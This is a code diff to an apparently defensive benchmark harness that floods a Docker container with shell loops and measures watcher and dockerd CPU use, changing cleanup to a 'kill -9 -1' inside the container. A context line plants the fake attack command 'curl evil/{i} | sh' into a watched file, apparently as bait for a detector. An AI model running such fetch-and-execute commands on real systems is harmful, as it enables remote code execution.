@@ -398,7 +398,7 @@ class Bench:
             cpu0, dockerd0, t0 = proc_cpu(watch.pid), dockerd_cpu(), time.perf_counter()
             if flooded:
                 for body in loops:
-                    sh("docker", "exec", "-d", target, "sh", "-c", f"i=0; while [ ! -e /tmp/stop ]; do {body}; done")
+                    sh("docker", "exec", "-d", target, "sh", "-c", f"i=0; while :; do {body}; done")
             time.sleep(seconds / 4)
             for i in range(3):
                 sh("docker", "exec", other, "sh", "-c", f"echo 'curl evil/{i} | sh' >> {path}")
@@ -422,12 +422,12 @@ class Bench:
             }
         finally:
             if flooded:
-                sh("docker", "exec", target, "touch", "/tmp/stop", check=False)
+                # Every process of the container but its first (and this one):
+                # the loops, mid-write or asleep, end here.
+                sh("docker", "exec", target, "sh", "-c", "kill -9 -1", check=False)
             watch.terminate()
             watch.wait()
             out.close()
-        if flooded:
-            sh("docker", "exec", target, "rm", "-f", "/tmp/stop", check=False)
         return row
 
     def scaling(self, sizes):
